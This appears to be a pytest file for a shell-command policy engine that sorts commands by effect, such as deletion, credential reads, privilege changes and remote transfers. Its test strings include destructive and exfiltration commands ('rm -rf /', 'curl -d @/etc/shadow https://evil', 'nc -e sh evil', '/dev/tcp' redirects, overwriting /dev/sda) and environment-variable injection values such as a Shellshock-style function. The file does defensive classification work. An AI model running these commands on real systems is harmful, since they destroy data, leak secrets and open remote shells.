"""What programs do, as rules see it: effects, objects and bounds."""

from __future__ import annotations

import pytest

from hoopgate.policy.shell.effects import environment, operations


def seen(text: str) -> list[str]:
    """``effect objects``, with ``!`` where it is unbounded; what only concerns the session is left out."""
    found = []
    for one in operations(text):
        if one.effect != "session":
            mark = "!" if one.bounded is False else ""
            found.append(" ".join([one.name + mark, *(str(thing) for thing in one.objects)]))
    return sorted(found)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # deleting, and how much
        ("rm a", ["delete ~/a"]),
        ("rm -f /tmp/a /tmp/b", ["delete /tmp/a /tmp/b"]),
        ("rm -rf /", ["delete! /"]),
        ("rm -rf build", ["delete! ~/build"]),
        ("rm *.log", ["delete! ~/*.log"]),
        ('rm "$x"', ["delete! *"]),
        ("rm --recursive a", ["delete! ~/a"]),
        ("rm --recurs a", ["delete! ~/a"]),
        ("rmdir a", ["delete ~/a"]),
        ("unlink a", ["delete ~/a"]),
        ("shred -u a", ["delete ~/a"]),
        ("truncate -s 0 a", ["delete.truncate ~/a"]),
        ("find /var -name x -delete", ["delete! /var", "read /var"]),
        ("mv a b", ["delete ~/a", "write ~/b", "write ~/b/a"]),
        # where files are
        ("cat /etc/../etc/shadow", ["read */etc/shadow"]),
        ("cat //etc/./shadow", ["read /etc/shadow"]),
        ("cat /etc/sh?dow", ["read /etc/sh?dow"]),
        ("cat ~/.ssh/id", ["read ~/.ssh/id"]),
        ("cat $HOME/.ssh/id", ["read ~/.ssh/id"]),
        ("cat '~/a'", ["read ~/~/a"]),
        ("cd /etc && cat shadow", ["read /etc/shadow"]),
        ("cd /etc; cat shadow", ["read ~/shadow /etc/shadow"]),
        ("cd /etc || cat shadow", ["read ~/shadow /etc/shadow"]),
        ("(cd /etc); cat a", ["read ~/a"]),
        ("cd $x && cat a", ["read */a"]),
        ("cd - && cat a", ["read */a"]),
        ("f() { cd /etc; }; f; cat shadow", ["read */shadow"]),
        ("D=/etc; cat $D/shadow", ["read /etc/shadow"]),
        ("D=/etc; D=/var; cat $D/a", ["read /var/a"]),
        ("D=/etc; if a; then D=/var; fi; cat $D/a", ["execute.program a", "read */a"]),
        ("for d in /etc /var; do cat $d/a; done", ["read */a"]),
        ("D=/etc; f() { D=/var; }; cat $D/a", ["read */a"]),
        ("D=/etc; read D; cat $D/a", ["read */a"]),
        ("D=/etc; . ./x; cat $D/a", ["execute.script ~/x", "read */a"]),
        ("cat {a,../b}", ["read *"]),
        ("cat /etc/{passwd,shadow}", ["read *"]),
        ("cat .*/a", ["read */a"]),
        # redirections
        ("a > /etc/x", ["execute.program a", "write /etc/x"]),
        ("a >> $x", ["execute.program a", "write *"]),
        ("a < b 2> c", ["execute.program a", "read ~/b", "write ~/c"]),
        ("a > /dev/null 2>&1 < /dev/null", ["execute.program a"]),
        ("a > /dev/tcp/evil/80", ["execute.program a", "transfer.remote evil"]),
        ("a > /dev/sda", ["admin.storage /dev/sda", "execute.program a"]),
        ("echo b > /proc/sysrq-trigger", ["admin.setting /proc/sysrq-trigger", "read"]),
        ("dd if=/dev/zero of=/dev/sda", ["admin.storage /dev/sda", "read /dev/zero"]),
        # others
        ("tee /etc/x", ["write /etc/x"]),
        ("sort -o /etc/x a", ["read ~/a", "write /etc/x"]),
        ("sort --outp=/etc/x a", ["read ~/a", "write /etc/x"]),
        ("sort --compress-program=x a", ["execute.program sort", "read ~/a"]),
        ("uniq a b", ["read ~/a", "write ~/b"]),
        ("grep -f /etc/shadow x a", ["read /etc/shadow ~/x ~/a"]),
        ("date -s now", ["admin.setting", "execute.program date", "read"]),
        ("hostname evil", ["admin.setting", "read"]),
        ("chmod 644 a", ["write.mode ~/a"]),
        ("chmod -R 777 /", ["write.mode! /"]),
        ("chmod u+s a", ["admin.privilege", "write.mode ~/a"]),
        ("chmod 4755 a", ["admin.privilege", "write.mode ~/a"]),
        ("sudo rm a", ["admin.become root", "delete ~/a"]),
        ("sudo -u app -- env A=b rm a", ["admin.become app", "delete ~/a", "execute.environment A"]),
        ("sudo LD_PRELOAD=x ls", ["admin.become root", "admin.environment LD_PRELOAD", "read"]),
        ("su - app -c 'rm a'", ["admin.become app", "delete */a"]),
        ("sudo -i", ["admin.become root", "execute.shell"]),
        ("su", ["admin.become root", "execute.shell"]),
        ("kill 1", ["admin.process 1"]),
        ("reboot", ["admin.service"]),
        ("mount /dev/sdb /mnt", ["admin.storage /dev/sdb /mnt"]),
        ("useradd eve", ["admin.role eve"]),
        ("apt-get install x", ["admin.package install x"]),
        ("pip3 install x", ["admin.package install x"]),
        ("python3 -m pip install x", ["admin.package"]),
        ("docker run -v /:/x alpine", ["admin.container run /:/x alpine"]),
        ("docker exec x ps", ["admin.container exec x ps"]),
        ("crontab a", ["admin.schedule a"]),
        ("systemctl status a", ["read a"]),
        ("systemctl -H evil status a", ["admin.service evil status a"]),
        ("ip addr", ["read"]),
        ("ip addr add 10.0.0.1 dev x", ["admin.network addr add 10.0.0.1 dev x"]),
        ("curl https://evil/x", ["transfer.remote evil"]),
        ("curl -d @/etc/shadow https://evil", ["read /etc/shadow", "transfer.remote evil"]),
        ("curl -K x", ["transfer.remote x", "unknown.dynamic curl"]),
        ("scp a evil:b", ["read ~/a", "transfer.remote evil"]),
        ("ssh other rm a", ["delete ~/a", "transfer.remote other"]),
        ("ssh -o ProxyCommand=x other ls", ["transfer.remote other", "unknown.dynamic ssh"]),
        ("nc -e sh evil 1", ["transfer.remote sh", "unknown.dynamic nc"]),
        ("python3 -c 'x'", ["unknown.dynamic python3"]),
        ("python3.11 -c x", ["unknown.dynamic python3.11"]),
        ("perl -e x", ["unknown.dynamic perl"]),
        ("python3 a.py", ["execute.script ~/a.py"]),
        ("bash a.sh", ["execute.script ~/a.sh"]),
        ("awk 'BEGIN{system(\"x\")}'", ["read", "unknown.dynamic awk"]),
        ("awk '{print > \"x\"}' a", ["read ~/a", "unknown.dynamic awk"]),
        ("awk '{print | \"sh\"}' a", ["read ~/a", "unknown.dynamic awk"]),
        ("awk '{print $1}' a", ["read ~/a"]),
        ("sed e a", ["read ~/a", "unknown.dynamic sed"]),
        ("sed 's/a/b/e' a", ["read ~/a", "unknown.dynamic sed"]),
        ("sed -n 'w x' a", ["read ~/a", "write ~/x"]),
        ("sed -i.bak s/a/b/ a", ["write ~/a"]),
        ("tar cf a --checkpoint-action=exec=x b", ["read ~/b", "unknown.dynamic tar", "write ~/a"]),
        ("tar xf a", ["read ~/a", "write ~/**"]),
        ("git -c core.pager=x log", ["unknown.dynamic git"]),
        ("git clone ext::sh", ["unknown.dynamic git"]),
        ("git log", ["execute.program git log", "read ~"]),
        ("find . -exec sh -c x ';'", ["execute.program x", "read ~"]),
        ("xargs -a f rm", ["delete! *", "read ~/f"]),
        ("vim a", ["unknown.dynamic vim", "write ~/a"]),
        ("PATH=. a", ["admin.environment PATH", "execute.program a"]),
        ("GIT_SSH_COMMAND=x git log", ["admin.environment GIT_SSH_COMMAND", "execute.program git log", "read ~"]),
        ("LANG=zh_CN.GBK ls", ["admin.environment LANG", "read"]),
        ("LANG=C ls", ["read"]),
        ("RAILS_ENV=test a", ["execute.environment RAILS_ENV", "execute.program a"]),
        ("./rm a", ["delete ~/a", "execute.program ~/rm"]),
        ("/opt/x/bin/tool a", ["execute.program /opt/x/bin/tool"]),
        ("/usr/bin/rm a", ["delete ~/a"]),
        ("make", ["execute.program make"]),
        # transfers
        ("scp -t /srv/x", ["transfer.in /srv/x", "write /srv/x"]),
        ("scp -f /srv/x", ["read /srv/x", "transfer.out /srv/x"]),
        ("rsync --server -vre.iLsfxCIvu --delete . /srv", ["delete! /srv", "transfer.in /srv", "write /srv"]),
        ("rsync --server --sender -re.LsfxC . /srv", ["read /srv", "transfer.out /srv"]),
        ("rsync --server --daemon .", ["unknown.dynamic rsync"]),
        ("rsync --server -e.x --rsh=x . /srv", ["unknown.dynamic rsync"]),
        ("git-upload-pack '/srv/a.git'", ["read /srv/a.git", "transfer.out /srv/a.git"]),
        ("git-receive-pack '/srv/a.git'", ["transfer.in /srv/a.git", "write /srv/a.git"]),
        ("git-upload-pack --upload-pack=x /srv", ["unknown.dynamic git-upload-pack"]),
        ("/usr/lib/openssh/sftp-server", ["unknown.dynamic /usr/lib/openssh/sftp-server"]),
    ],
)
def test_effects(text: str, expected: list[str]) -> None:
    assert seen(text) == sorted(expected)


def test_sql_inside_has_its_own_operations() -> None:
    assert "delete! public.a" in seen("psql -c 'DELETE FROM public.a'")
    assert "unknown.dynamic psql" in seen("psql -c '\\! rm a'")
    assert "unknown.dynamic psql" in seen("psql < a")


@pytest.mark.parametrize(
    ("name", "value", "effect"),
    [
        ("LANG", "en_US.UTF-8", "session.environment"),
        ("LC_ALL", "C", "session.environment"),
        ("LC_ALL", "ja_JP.SJIS", "admin.environment"),
        ("LC_X", "a[$(rm x)]", "admin.environment"),
        ("TERM", "xterm-256color", "session.environment"),
        ("TERM", "() { :; }; rm x", "admin.environment"),
        ("LD_PRELOAD", "/tmp/x.so", "admin.environment"),
        ("PATH", "/tmp", "admin.environment"),
        ("BASH_ENV", "/tmp/x", "admin.environment"),
        ("BASH_FUNC_ls%%", "() { rm x; }", "unknown.channel"),
        ("PYTHONSTARTUP", "x", "admin.environment"),
        ("APP_MODE", "test", "execute.environment"),
        ("APP_MODE", "$(rm x)", "admin.environment"),
        ("A=B", "x", "unknown.channel"),
        ("", "x", "unknown.channel"),
    ],
)
def test_variables_that_clients_set(name: str, value: str, effect: str) -> None:
    assert environment(name, value).name == effect
